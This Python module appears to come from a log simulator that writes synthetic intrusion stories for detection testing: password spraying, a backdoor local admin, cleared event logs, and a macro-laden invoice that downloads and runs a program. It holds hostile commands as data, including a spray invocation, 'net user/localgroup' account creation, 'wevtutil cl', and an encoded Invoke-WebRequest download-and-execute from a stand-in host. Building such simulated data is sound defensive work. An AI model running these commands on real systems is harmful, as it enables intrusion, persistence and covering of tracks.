"""The attacks hidden in the office's month: where and when they happen, and two of them."""

from __future__ import annotations

import random

from watchkeeper.scenarios.clock import DAY_MS, HOUR_MS, Clock, from_ms
from watchkeeper.scenarios.intrusions import remote_tool, ssh_brute_force
from watchkeeper.scenarios.linux_audit import share_access
from watchkeeper.scenarios.nxlog import Account, guid_prefix
from watchkeeper.scenarios.office import DC, DOMAIN, HOST_BY_NAME, USER_BY_NAME, WindowsHost
from watchkeeper.scenarios.programs import OFFICE16, POWERSHELL_EXE, SYS32
from watchkeeper.scenarios.script import MINUTE_MS, Plan, Script, encode_powershell


def plan(clock: Clock, rng: random.Random) -> Plan:
    """Choose working days inside the range and write the four stories on them."""
    first_day = -(-clock.start_ms // DAY_MS)  # the first whole day
    last_day = clock.end_ms // DAY_MS - 1
    days = [d for d in range(first_day, last_day + 1) if clock.weekday.get(d, 6) < 5]
    if len(days) < 4:
        days = list(range(first_day, last_day + 1)) or [clock.start_ms // DAY_MS]
    chosen = rng.sample(days, 4) if len(days) >= 4 else [rng.choice(days) for _ in range(4)]
    result = Plan()

    def at(day: int, hours: tuple[int, int]) -> int:
        t = day * DAY_MS + rng.randrange(*hours) * HOUR_MS + rng.randrange(HOUR_MS)
        return max(clock.start_ms, min(t, clock.end_ms - 4 * HOUR_MS))

    password_spray(Script(result, clock, rng), at(chosen[0], (10, 14)))
    office_macro(Script(result, clock, rng), at(chosen[1], (9, 15)))
    ssh_brute_force(Script(result, clock, rng), at(chosen[2], (19, 22)))
    remote_tool(Script(result, clock, rng), at(chosen[3], (10, 14)))
    result.lines.sort(key=lambda line: line.t_ms)
    return result


SPRAY_GUESSES = (
    "administrator",
    "admin",
    "test",
    "guest",
    "backup",
    "scanner",
    "helpdesk",
    "svc_sql",
    "reception",
    "finance",
    "it.support",
    "training",
)


def password_spray(s: Script, t: int) -> None:
    """From grace's PC: spray the DC, get in as bob, add a local admin on carol's PC, clear logs."""
    source, target = HOST_BY_NAME["PC-SALES-02"], HOST_BY_NAME["PC-ACCT-01"]
    victim = USER_BY_NAME["bob"]
    names = [u.name for u in USER_BY_NAME.values()] + list(SPRAY_GUESSES)
    s.rng.shuffle(names)
    spray_cmd = (
        "Import-Module C:\\Users\\Public\\DomainPasswordSpray.ps1; Invoke-DomainPasswordSpray "
        "-UserList C:\\Users\\Public\\users.txt -Password 'Autumn2026!','Welcome1!' -Force"
    )
    explorer = (
        "C:\\Windows\\explorer.exe",
        "C:\\Windows\\Explorer.EXE",
        "{00000000-0000-0000-0000-000000000000}",
        5124,
    )
    guid, pid = s.process(
        t,
        source,
        image=POWERSHELL_EXE,
        user=f"{DOMAIN}\\grace",
        command=f'powershell.exe -nop -ep bypass -c "{spray_cmd}"',
        parent=explorer,
        describe=(
            "10.0.19041.5072",
            "Windows PowerShell",
            "Microsoft® Windows® Operating System",
            "Microsoft Corporation",
            "PowerShell.EXE",
        ),
    )
    s.script_block(t + 2000, source, text=spray_cmd, pid=pid, user="grace")
    s.connect(
        t + 4000,
        source,
        image=POWERSHELL_EXE,
        guid=guid,
        pid=pid,
        user=f"{DOMAIN}\\grace",
        dst=DC.ip,
        port=445,
    )
    t += 6000
    for password in (0, 1):
        for name in names:
            t += s.rng.randrange(2000, 7000)
            if password == 1 and name == victim.name:
                _dc_logon(s, t, victim.name, victim.sid, source)
                success = t
                continue
            known = name in USER_BY_NAME or name == "administrator"
            _dc_failure(s, t, name, source, known)
    lateral = t + s.rng.randrange(5, 9) * MINUTE_MS
    _local_admin(s, lateral, target, source, victim.name, victim.sid)
    s.story(
        "password_spray",
        "Password spraying from PC-SALES-02, then a new local admin and cleared logs",
        ("T1110.003", "T1078.002", "T1136.001", "T1098", "T1070.001"),
        users=("grace", victim.name, "svc_update"),
        source_ips=(source.ip,),
        details={
            "sprayed_account": victim.name,
            "source_host": source.name,
            "target_host": target.name,
            "new_account": "svc_update",
            "success_time": from_ms(success).isoformat(),
        },
    )


def _dc_failure(s: Script, t: int, name: str, source: WindowsHost, known: bool) -> None:
    sub = "0xc000006a" if known else "0xc0000064"
    port = s.port()
    s.win(
        t,
        DC,
        "4625",
        (
            "An account failed to log on.\r\n\r\nAccount For Which Logon Failed:\r\n\tSecurity ID:\t\tS-1-0-0\r\n"
            f"\tAccount Name:\t\t{name}\r\n\tAccount Domain:\t\t{DOMAIN}\r\n\r\nFailure Information:\r\n"
            "\tFailure Reason:\t\tUnknown user name or bad password.\r\n\tStatus:\t\t\t0xC000006D\r\n"
            f"\tSub Status:\t\t{sub.upper().replace('0X', '0x')}\r\n\r\nNetwork Information:\r\n"
            f"\tWorkstation Name:\t{source.name}\r\n\tSource Network Address:\t{source.ip}\r\n\tSource Port:\t\t{port}"
        ),
        (
            ("SubjectUserSid", "S-1-0-0"),
            ("SubjectUserName", "-"),
            ("SubjectDomainName", "-"),
            ("SubjectLogonId", "0x0"),
            ("TargetUserSid", "S-1-0-0"),
            ("TargetUserName", name),
            ("TargetDomainName", DOMAIN),
            ("Status", "0xc000006d"),
            ("FailureReason", "%%2313"),
            ("SubStatus", sub),
            ("LogonType", "3"),
            ("LogonProcessName", "NtLmSsp "),
            ("AuthenticationPackageName", "NTLM"),
            ("WorkstationName", source.name),
            ("TransmittedServices", "-"),
            ("LmPackageName", "-"),
            ("KeyLength", "0"),
            ("ProcessId", "0x0"),
            ("ProcessName", "-"),
            ("IpAddress", source.ip),
            ("IpPort", str(port)),
        ),
    )


def _logon_fields(
    name: str, sid: str, lid: str, source: WindowsHost, port: int
) -> tuple[tuple[str, object], ...]:
    return (
        ("SubjectUserSid", "S-1-0-0"),
        ("SubjectUserName", "-"),
        ("SubjectDomainName", "-"),
        ("SubjectLogonId", "0x0"),
        ("TargetUserSid", sid),
        ("TargetUserName", name),
        ("TargetDomainName", DOMAIN),
        ("TargetLogonId", lid),
        ("LogonType", "3"),
        ("LogonProcessName", "NtLmSsp "),
        ("AuthenticationPackageName", "NTLM"),
        ("WorkstationName", source.name),
        ("LogonGuid", "{00000000-0000-0000-0000-000000000000}"),
        ("TransmittedServices", "-"),
        ("LmPackageName", "NTLM V2"),
        ("KeyLength", "128"),
        ("ProcessId", "0x0"),
        ("ProcessName", "-"),
        ("IpAddress", source.ip),
        ("IpPort", str(port)),
        ("ImpersonationLevel", "%%1833"),
        ("RestrictedAdminMode", "-"),
        ("TargetOutboundUserName", "-"),
        ("TargetOutboundDomainName", "-"),
        ("VirtualAccount", "%%1843"),
        ("TargetLinkedLogonId", "0x0"),
        ("ElevatedToken", "%%1842"),
    )


def _logon_message(name: str, sid: str, lid: str, source: WindowsHost, port: int) -> str:
    return (
        "An account was successfully logged on.\r\n\r\nLogon Information:\r\n\tLogon Type:\t\t3\r\n\r\n"
        f"New Logon:\r\n\tSecurity ID:\t\t{sid}\r\n\tAccount Name:\t\t{name}\r\n\tAccount Domain:\t\t{DOMAIN}"
        f"\r\n\tLogon ID:\t\t{lid}\r\n\r\nNetwork Information:\r\n\tWorkstation Name:\t{source.name}\r\n"
        f"\tSource Network Address:\t{source.ip}\r\n\tSource Port:\t\t{port}"
    )


def _dc_logon(s: Script, t: int, name: str, sid: str, source: WindowsHost) -> None:
    lid, port = hex(s.rng.getrandbits(26) | 0x100000), s.port()
    s.win(
        t,
        DC,
        "4624",
        _logon_message(name, sid, lid, source, port),
        _logon_fields(name, sid, lid, source, port),
    )
    s.win(
        t,
        DC,
        "4634",
        (
            f"An account was logged off.\r\n\r\nSubject:\r\n\tSecurity ID:\t\t{sid}\r\n\tAccount Name:\t\t{name}\r\n"
            f"\tAccount Domain:\t\t{DOMAIN}\r\n\tLogon ID:\t\t{lid}\r\n\r\nLogon Type:\t\t\t3"
        ),
        (
            ("TargetUserSid", sid),
            ("TargetUserName", name),
            ("TargetDomainName", DOMAIN),
            ("TargetLogonId", lid),
            ("LogonType", "3"),
        ),
    )


def _local_admin(
    s: Script, t: int, host: WindowsHost, source: WindowsHost, name: str, sid: str
) -> None:
    """Logon over the network, a new local account in Administrators, then both logs cleared."""
    lid, port = hex(s.rng.getrandbits(26) | 0x100000), s.port()
    s.win(
        t,
        host,
        "4624",
        _logon_message(name, sid, lid, source, port),
        _logon_fields(name, sid, lid, source, port),
    )
    subject = (
        ("SubjectUserSid", sid),
        ("SubjectUserName", name),
        ("SubjectDomainName", DOMAIN),
        ("SubjectLogonId", lid),
    )
    s.win(
        t,
        host,
        "4672",
        (
            f"Special privileges assigned to new logon.\r\n\r\nSubject:\r\n\tSecurity ID:\t\t{sid}\r\n"
            f"\tAccount Name:\t\t{name}\r\n\tAccount Domain:\t\t{DOMAIN}\r\n\tLogon ID:\t\t{lid}"
        ),
        (
            *subject,
            (
                "PrivilegeList",
                "SeSecurityPrivilege\r\n\t\t\tSeBackupPrivilege\r\n\t\t\tSeDebugPrivilege",
            ),
        ),
    )
    wmi = (
        f"{SYS32}\\wbem\\WmiPrvSE.exe",
        f"{SYS32}\\wbem\\wmiprvse.exe -secured -Embedding",
        f"{{{guid_prefix(host)}-6a1e-6566-2a01-000000001300}}",
        3312,
    )
    local_sid = "S-1-5-21-1853592014-2209871093-3870115267-1001"
    user = f"{DOMAIN}\\{name}"
    t += 20_000
    for command in (
        "net user svc_update Upd4te!2026 /add",
        "net localgroup administrators svc_update /add",
    ):
        s.process(
            t,
            host,
            image=f"{SYS32}\\cmd.exe",
            user=user,
            parent=wmi,
            integrity="High",
            parent_user="NT AUTHORITY\\NETWORK SERVICE",
            command=f"cmd.exe /Q /c {command} 1> \\\\127.0.0.1\\ADMIN$\\__{t // 1000}.{t % 1000} 2>&1",
        )
        t += 3000
        if "user" in command:
            account = (
                ("TargetUserName", "svc_update"),
                ("TargetDomainName", host.name),
                ("TargetSid", local_sid),
            )
            s.win(
                t,
                host,
                "4720",
                (
                    f"A user account was created.\r\n\r\nSubject:\r\n\tAccount Name:\t\t{name}\r\n"
                    f"\tAccount Domain:\t\t{DOMAIN}\r\n\r\nNew Account:\r\n\tSecurity ID:\t\t{local_sid}\r\n"
                    f"\tAccount Name:\t\tsvc_update\r\n\tAccount Domain:\t\t{host.name}"
                ),
                (
                    *account,
                    *subject,
                    ("PrivilegeList", "-"),
                    ("SamAccountName", "svc_update"),
                    ("DisplayName", "%%1793"),
                    ("UserPrincipalName", "-"),
                    ("HomeDirectory", "%%1793"),
                    ("UserAccountControl", "\r\n\t\t%%2080\r\n\t\t%%2082\r\n\t\t%%2084"),
                    ("PrimaryGroupId", "513"),
                ),
            )
            s.win(
                t,
                host,
                "4722",
                "A user account was enabled.\r\n\r\nTarget Account:\r\n\tAccount Name:\t\tsvc_update",
                (*account, *subject),
            )
            s.win(
                t,
                host,
                "4724",
                "An attempt was made to reset an account's password.\r\n\r\nTarget Account:\r\n"
                "\tAccount Name:\t\tsvc_update",
                (*account, *subject),
            )
        else:
            s.win(
                t,
                host,
                "4732",
                (
                    f"A member was added to a security-enabled local group.\r\n\r\nSubject:\r\n\tAccount Name:\t\t{name}\r\n\r\n"
                    f"Member:\r\n\tSecurity ID:\t\t{local_sid}\r\n\tAccount Name:\t\t-\r\n\r\nGroup:\r\n"
                    "\tSecurity ID:\t\tS-1-5-32-544\r\n\tGroup Name:\t\tAdministrators\r\n\tGroup Domain:\t\tBuiltin"
                ),
                (
                    ("MemberName", "-"),
                    ("MemberSid", local_sid),
                    ("TargetUserName", "Administrators"),
                    ("TargetDomainName", "Builtin"),
                    ("TargetSid", "S-1-5-32-544"),
                    *subject,
                    ("PrivilegeList", "-"),
                ),
            )
        t += 15_000
    for log in ("Security", "System"):
        s.process(
            t,
            host,
            image=f"{SYS32}\\wevtutil.exe",
            user=user,
            parent=wmi,
            integrity="High",
            parent_user="NT AUTHORITY\\NETWORK SERVICE",
            command=f"wevtutil.exe cl {log}",
        )
        t += 1000
    s.win(
        t - 1000,
        host,
        "1102",
        (
            f"The audit log was cleared.\r\nSubject:\r\n\tSecurity ID:\t{sid}\r\n\tAccount Name:\t{name}\r\n"
            f"\tDomain Name:\t{DOMAIN}\r\n\tLogon ID:\t{lid}"
        ),
        subject,
    )
    s.win(
        t,
        host,
        "104",
        "The System log file was cleared.",
        (("SubjectUserName", name), ("SubjectDomainName", DOMAIN), ("BackupPath", "")),
        account=Account(DOMAIN, name, sid),
    )


MACRO_URL = "http://198.51.100.23/inv/update.exe"
SHARE_LOOT = (
    "Supplier payments November.xlsx",
    "VAT return Q3.xlsx",
    "Budget 2027.xlsx",
    "Bank details - suppliers.xlsx",
    "Payroll 2026.xlsx",
    "Invoice template.docx",
    "Customer accounts.xlsx",
    "Card payments October.csv",
)
MACRO_COMMAND = (
    f"Invoke-WebRequest -Uri '{MACRO_URL}' -OutFile \"$env:TEMP\\update.exe\"; "
    'Start-Process "$env:TEMP\\update.exe"'
)


def office_macro(s: Script, t: int) -> None:
    """dave opens an invoice from Outlook; its macro downloads and starts a program that reads the share."""
    host, user = HOST_BY_NAME["PC-ACCT-02"], USER_BY_NAME["dave"]
    who = f"{DOMAIN}\\{user.name}"
    attachment = f"{user.home}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q7K2MB1D\\Invoice_INV-20931.docm"
    outlook = (
        f"{OFFICE16}\\OUTLOOK.EXE",
        f'"{OFFICE16}\\OUTLOOK.EXE" ',
        f"{{{guid_prefix(host)}-5d10-6566-8c00-000000001300}}",
        7420,
    )
    s.file(t, host, image=outlook[0], guid=outlook[2], pid=outlook[3], user=who, target=attachment)
    word_image = f"{OFFICE16}\\WINWORD.EXE"
    word_cmd = f'"{word_image}" /n "{attachment}" /o ""'
    word_guid, word_pid = s.process(
        t + 20_000,
        host,
        image=word_image,
        command=word_cmd,
        user=who,
        parent=outlook,
        directory=f"{user.home}\\Documents\\",
        describe=(
            "16.0.18129.20158",
            "Microsoft Word",
            "Microsoft Office",
            "Microsoft Corporation",
            "WinWord.exe",
        ),
    )
    encoded = encode_powershell(MACRO_COMMAND)
    ps_cmd = f"powershell.exe -NoP -NonI -W Hidden -enc {encoded}"
    ps_guid, ps_pid = s.process(
        t + 35_000,
        host,
        image=POWERSHELL_EXE,
        command=ps_cmd,
        user=who,
        parent=(word_image, word_cmd, word_guid, word_pid),
        directory=f"{user.home}\\Documents\\",
        describe=(
            "10.0.19041.5072",
            "Windows PowerShell",
            "Microsoft® Windows® Operating System",
            "Microsoft Corporation",
            "PowerShell.EXE",
        ),
    )
    s.script_block(t + 36_000, host, text=MACRO_COMMAND, pid=ps_pid, user=user.name)
    s.connect(
        t + 37_000,
        host,
        image=POWERSHELL_EXE,
        guid=ps_guid,
        pid=ps_pid,
        user=who,
        dst="198.51.100.23",
        port=80,
    )
    dropped = f"{user.home}\\AppData\\Local\\Temp\\update.exe"
    s.file(
        t + 39_000, host, image=POWERSHELL_EXE, guid=ps_guid, pid=ps_pid, user=who, target=dropped
    )
    guid, pid = s.process(
        t + 41_000,
        host,
        image=dropped,
        command=f'"{dropped}" ',
        user=who,
        parent=(POWERSHELL_EXE, ps_cmd, ps_guid, ps_pid),
        directory=f"{user.home}\\Documents\\",
    )
    for beacon in range(6):
        s.connect(
            t + 50_000 + beacon * 5 * MINUTE_MS + s.rng.randrange(30_000),
            host,
            image=dropped,
            guid=guid,
            pid=pid,
            user=who,
            dst="198.51.100.23",
            port=443,
        )
    # Then the program reads the Accounts share through dave's session, file after file.
    t += 12 * MINUTE_MS
    smbd = 41_000 + s.rng.randrange(2000)
    for index, name in enumerate(SHARE_LOOT):
        for number, (kind, body) in enumerate(share_access(user, f"Accounts/{name}", smbd)):
            s.audit(t + index * 1500, kind, body, first=number == 0)
    s.story(
        "office_macro",
        "Word macro in an emailed invoice downloads and runs a program",
        ("T1566.001", "T1204.002", "T1059.001", "T1105", "T1071.001", "T1039"),
        users=(user.name,),
        source_ips=("198.51.100.23",),
        details={
            "host": host.name,
            "document": "Invoice_INV-20931.docm",
            "url": MACRO_URL,
            "decoded_command": MACRO_COMMAND,
            "dropped_file": dropped,
        },
    )
